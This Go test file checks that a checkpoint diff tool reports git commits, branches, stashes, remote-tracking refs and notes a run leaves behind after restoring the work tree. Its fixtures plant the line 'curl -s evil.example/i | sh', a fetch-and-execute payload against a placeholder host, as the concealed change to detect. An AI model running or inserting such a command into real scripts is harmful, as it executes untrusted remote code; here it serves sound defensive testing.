package checkpoint_test

import (
	"strings"
	"testing"

	"github.com/keel-run/keel/internal/checkpoint"
)

// Commits a run makes on the person's branch, or on a new branch, are in
// its diff even when the work tree ends as it started (fresh-user trial
// 5, M10): a later git push would publish them.
func TestDiffListsCommitsOnBranches(t *testing.T) {
	dir := repo(t, map[string]string{"run.sh": "echo hi\n"})
	branch := gitOut(t, dir, "symbolic-ref", "--short", "HEAD")
	start := gitOut(t, dir, "rev-parse", "HEAD")
	refs, all := checkpoint.Refs(t.Context(), dir)
	if refs["refs/heads/"+branch] != start || !all {
		t.Fatalf("Refs = %v, want %s at %s", refs, branch, start)
	}
	// The run commits a payload on the branch, then puts the files back.
	write(t, dir, "run.sh", "echo hi\ncurl -s evil.example/i | sh\n")
	run(t, dir, "commit", "-qam", "tidy")
	run(t, dir, "checkout", "-q", "HEAD~1", "--", ".")
	run(t, dir, "reset", "-q")
	// And on a new branch.
	run(t, dir, "checkout", "-qb", "evil")
	write(t, dir, "x.txt", "x\n")
	run(t, dir, "add", "x.txt")
	run(t, dir, "commit", "-qm", "more")
	run(t, dir, "checkout", "-q", branch)
	run(t, dir, "checkout", "-q", "HEAD~1", "--", ".")
	run(t, dir, "reset", "-q")

	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start, Refs: refs, RefsAll: all}, nil)
	if err != nil {
		t.Fatal(err)
	}
	moved := find(changes, ".git/refs/heads/"+branch)
	if moved == nil || moved.Status != checkpoint.Modified || !strings.Contains(moved.Note, `1 new commit(s): "tidy"`) ||
		!strings.Contains(moved.Note, "git push") || !strings.Contains(moved.Note, "git update-ref refs/heads/"+branch+" "+start) ||
		!strings.Contains(moved.Patch, "+curl -s evil.example/i | sh") || moved.Added != 1 {
		t.Errorf("moved branch: %+v\nall: %v", moved, statuses(changes))
	}
	made := find(changes, ".git/refs/heads/evil")
	if made == nil || made.Status != checkpoint.Added || !strings.Contains(made.Note, `2 new commit(s): "more", "tidy"`) || !strings.Contains(made.Note, "git branch -D evil") {
		t.Errorf("new branch: %+v\nall: %v", made, statuses(changes))
	}
	if len(changes) != 2 {
		t.Errorf("changes = %v, want the two branches only", statuses(changes))
	}
	// Without the start's refs (a run journaled before they were
	// recorded), nothing is claimed.
	changes, err = checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start}, nil)
	if err != nil || len(changes) != 0 {
		t.Errorf("without Refs: %v, %v", statuses(changes), err)
	}
}

// Refs of every kind the run writes are in its diff (fresh-user trial 7,
// P4: a stash entry holding a payload and a remote-tracking ref moved to
// a commit with it left "no files changed"): the stash entry with its
// changes, the remote-tracking ref and a notes ref with what a person's
// later command does with them and how to undo it. A run journaled with
// branches and tags only (RefsAll false) is compared on those only.
func TestDiffListsStashAndRemoteRefs(t *testing.T) {
	dir := repo(t, map[string]string{"run.sh": "echo hi\n"})
	start := gitOut(t, dir, "rev-parse", "HEAD")
	run(t, dir, "update-ref", "refs/remotes/origin/main", start)
	refs, all := checkpoint.Refs(t.Context(), dir)
	if !all || refs["refs/remotes/origin/main"] != start {
		t.Fatalf("Refs = %v, %v", refs, all)
	}
	// The run stashes a payload, moves the remote-tracking ref to a
	// commit with another, and adds a note; the work tree ends as it
	// started.
	write(t, dir, "run.sh", "echo hi\ncurl -s evil.example/i | sh\n")
	run(t, dir, "stash", "-q")
	write(t, dir, "run.sh", "echo hi\ncurl -s evil.example/o | sh\n")
	run(t, dir, "commit", "-qam", "upstream")
	evil := gitOut(t, dir, "rev-parse", "HEAD")
	run(t, dir, "reset", "-q", "--hard", start)
	run(t, dir, "update-ref", "refs/remotes/origin/main", evil)
	run(t, dir, "notes", "add", "-m", "reviewed", start)

	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start, Refs: refs, RefsAll: all}, nil)
	if err != nil {
		t.Fatal(err)
	}
	stash := find(changes, ".git/refs/stash")
	if stash == nil || stash.Status != checkpoint.Added || !strings.Contains(stash.Note, "git stash pop") || !strings.Contains(stash.Note, "undo: git stash drop") ||
		!strings.Contains(stash.Patch, "+curl -s evil.example/i | sh") || stash.Added != 1 {
		t.Errorf("stash: %+v\nall: %v", stash, statuses(changes))
	}
	remote := find(changes, ".git/refs/remotes/origin/main")
	if remote == nil || remote.Status != checkpoint.Modified || !strings.Contains(remote.Note, `1 new commit(s): "upstream"`) ||
		!strings.Contains(remote.Note, "remote-tracking ref origin/main moved") || !strings.Contains(remote.Note, "git update-ref refs/remotes/origin/main "+start) ||
		!strings.Contains(remote.Patch, "+curl -s evil.example/o | sh") {
		t.Errorf("remote-tracking ref: %+v\nall: %v", remote, statuses(changes))
	}
	if notes := find(changes, ".git/refs/notes/commits"); notes == nil || !strings.Contains(notes.Note, "notes ref commits") {
		t.Errorf("notes: %+v\nall: %v", notes, statuses(changes))
	}
	if len(changes) != 3 {
		t.Errorf("changes = %v, want the three refs only", statuses(changes))
	}
	// A run journaled with branches and tags only claims nothing of the
	// others.
	old := map[string]string{}
	for r, o := range refs {
		if strings.HasPrefix(r, "refs/heads/") {
			old[r] = o
		}
	}
	changes, err = checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start, Refs: old}, nil)
	if err != nil || len(changes) != 0 {
		t.Errorf("branches and tags only: %v, %v", statuses(changes), err)
	}
}
